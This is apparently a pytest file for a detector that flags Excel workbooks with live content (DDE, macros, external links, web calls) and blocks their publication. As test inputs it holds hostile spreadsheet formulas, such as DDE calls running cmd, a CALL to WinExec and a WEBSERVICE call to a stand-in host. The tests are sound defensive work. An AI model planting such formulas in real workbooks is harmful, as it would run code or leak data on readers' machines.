"""A workbook that somebody changed: nothing in it fetches or runs a thing at its reader's."""

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from handed import NAME, codes, publishes, workspace_at
from small_set import small_set

from handbook import opc
from handbook.cli.app import main
from handbook.excel.formulas import formula_fault
from handbook.excel.live_content import live_sheet
from handbook.pipeline.safeguards.disclosure import live

Parts = dict[str, bytes]
SHEET, TYPES = "xl/worksheets/sheet1.xml", "[Content_Types].xml"
ARROWS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture(scope="module", autouse=True)
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
    with small_set(tmp_path_factory.mktemp("pakketten")):
        yield


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return workspace_at(tmp_path_factory.mktemp("sheets"))


@pytest.fixture(scope="module")
def plain(root: Path) -> Parts:
    return opc.unpack((root / "output" / NAME / "KH-02.xlsx").read_bytes())


def safe(address: str) -> bool:
    return address.startswith(("https://", "mailto:")) or ":" not in address


def cell(formula: str) -> Callable[[Parts], Parts]:
    row = f'<row r="900"><c r="A900"><f>{formula}</f><v>1</v></c></row></sheetData>'
    return lambda parts: {
        **parts,
        SHEET: parts[SHEET].replace(b"</sheetData>", row.encode()),
    }


def relationship(
    kind: str, target: str, part: str = "xl/_rels/odd.xml.rels"
) -> Callable[[Parts], Parts]:
    text = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{ARROWS}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )
    return lambda parts: {**parts, part: text.encode()}


def part(name: str, data: bytes) -> Callable[[Parts], Parts]:
    return lambda parts: {**parts, name: data}


def kind(new: bytes) -> Callable[[Parts], Parts]:
    old = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return lambda parts: {**parts, TYPES: parts[TYPES].replace(old, new)}


def inside(name: str, end: bytes, new: bytes) -> Callable[[Parts], Parts]:
    return lambda parts: {**parts, name: parts[name].replace(end, new + end)}


BOOK, END = "xl/workbook.xml", b"</workbook>"
PUBLISHED = b'<webPublishObject id="1" destinationFile="\\\\elders\\x.htm" autoRepublish="1"/>'
MACROS = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
TEMPLATE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"
MAIN = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LIVE = {
    "dde": (cell("cmd|'/c calc'!A0"), "HB312"),
    "webservice": (cell('_xlfn.WEBSERVICE("http://elders/"&amp;A1)'), "HB313"),
    "call": (cell('CALL("kernel32","WinExec","JC","calc")'), "HB312"),
    "picture": (relationship("image", "http://elders/x.png"), "HB313"),
    "workbook": (relationship("externalLinkPath", "file:///\\\\elders\\x.xlsx"), "HB312"),
    "script": (relationship("hyperlink", "javascript:x"), "HB313"),
    "macros": (part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"), "HB312"),
    "object": (part("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1"), "HB312"),
    "macro kind": (kind(MACROS), "HB320"),
    "template": (kind(TEMPLATE), "HB320"),
    "link": (part("xl/x.xml", b"<externalLink " + MAIN + b"/>"), "HB312"),
    "query": (part("xl/q.dat", b" " * 50 + b"<queryTable " + MAIN + b"/>"), "HB312"),
    "saved as a page": (
        part(
            "xl/p.xml", b"<webPublishObjects " + MAIN + b"><webPublishObject/></webPublishObjects>"
        ),
        "HB312",
    ),
    "power query": (part("customXml/item9.xml", b"<DataMashup xmlns='x'>AA</DataMashup>"), "HB312"),
    "map": (part("xl/xmlMaps.xml", b"<MapInfo><Map><DataBinding/></Map></MapInfo>"), "HB312"),
    "wide": (part("xl/c.xml", "<?xml version='1.0'?><ddeLink/>".encode("utf-16")), "HB312"),
    "published": (
        inside(BOOK, END, b"<webPublishObjects>" + PUBLISHED + b"</webPublishObjects>"),
        "HB312",
    ),
    "smart tag": (
        inside(BOOK, END, b'<smartTagTypes><smartTagType url="http://e/"/></smartTagTypes>'),
        "HB312",
    ),
    "unknown of the book": (inside(BOOK, END, b"<later/>"), "HB312"),
    "unknown of a sheet": (inside(SHEET, b"</worksheet>", b"<later/>"), "HB312"),
    "query of data": (
        part("customXml/item9.xml", b"<DataMashup xmlns='d'>AA=</DataMashup>"),
        "HB312",
    ),
    "bound": (
        part("xl/xmlMaps.xml", b"<MapInfo><DataBinding FileBindingName='x'/></MapInfo>"),
        "HB312",
    ),
    "links begin elsewhere": (
        inside("docProps/app.xml", b"</Properties>", b"<HyperlinkBase>http://e/</HyperlinkBase>"),
        "HB313",
    ),
    "other book": (cell("'http://elders/[x.xlsx]S'!A1"), "HB312"),
    "other book on a computer": (cell("'\\\\elders\\[x.xlsx]S'!A1"), "HB312"),
    "entities": (part("xl/e.xml", b"<!DOCTYPE x [<!ENTITY y 'z'>]><x>&y;</x>"), "HB312"),
}


@pytest.mark.parametrize("name", LIVE)
def test_what_fetches_or_runs_something_is_told(plain: Parts, name: str) -> None:
    change, code = LIVE[name]
    assert {each.code for each in live_sheet(change(plain), "KH-02.xlsx", safe)} == {code}


@pytest.mark.parametrize("file", ["KH-02.xlsx", "KH-02.XLSX"])
def test_a_workbook_that_is_looked_at_as_a_file_is_told_as_well(plain: Parts, file: str) -> None:
    change, code = LIVE["dde"]
    assert [each.code for each in live(file, opc.pack(change(plain)))] == [code]
    assert [each.code for each in live(file, b"PK damaged")] == ["HB471"]


def test_our_own_workbooks_and_ordinary_changes_are_no_fault(root: Path, plain: Parts) -> None:
    for path in sorted((root / "output" / NAME).glob("*.xlsx")):
        assert live_sheet(opc.unpack(path.read_bytes()), path.name, safe) == ()
    for change in (
        cell("SUM(A1:A9)&amp;Tabel1[Kop|rest]"),
        cell('HYPERLINK("https://elders.nl/","zie")'),
        cell('IF(A1="a|b",1,VLOOKUP(A1,B:C,2,0))'),
        relationship("hyperlink", "PP-01.docx"),
        relationship("hyperlink", "mailto:anja@berk.nl"),
        part("xl/drawings/drawing9.xml", b"<wsDr macro=''><sp macro=''/></wsDr>"),
        part("xl/printerSettings/printerSettings1.bin", b"HP\0\0"),
    ):
        assert live_sheet(change(plain), "KH-02.xlsx", safe) == ()


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("SUM(A1)", ""),
        ('HYPERLINK("#Blad2!A1")', ""),
        ('HYPERLINK("#"&B1,"zie")', ""),
        ('"cmd|x"&A1', ""),
        ("'in/uit'!A1+Tabel1[a/b]", ""),
        ('HYPERLINK("https://a.nl/"&A1)', "HB313"),
        ("HYPERLINK(A1)", "HB313"),
        ('HYPERLINK("javascript:x")', "HB313"),
        ('_xlfn.IMAGE("https://a.nl/x.png")', "HB313"),
        ("'cmd'|'/c calc'!A0", "HB312"),
        ('REGISTER.ID("a","b")', "HB312"),
        ('MSEXCEL|"\\..\\..\\cmd.exe"!A0', "HB312"),
    ],
)
def test_a_formula_may_calculate_and_nothing_else(formula: str, code: str) -> None:
    assert (formula_fault(formula, safe) or ("",))[0] == code


def test_such_a_workbook_is_checked_and_never_published(
    root: Path, tmp_path: Path, plain: Parts
) -> None:
    path, host = root / "output" / NAME / "KH-02.xlsx", tmp_path / "dms"
    former = path.read_bytes()
    path.write_bytes(opc.pack(cell("cmd|'/c calc'!A0")(plain)))
    told = publishes(root, str(host), drafts=True)
    assert (told.exit_code, codes(told), (host / path.name).exists()) == (3, ["HB545"], False)
    checked = CliRunner().invoke(main, ["-C", str(root), "check", NAME, "--output"])
    assert (checked.exit_code, "HB312" in checked.output) == (1, True), checked.output
    path.write_bytes(former)
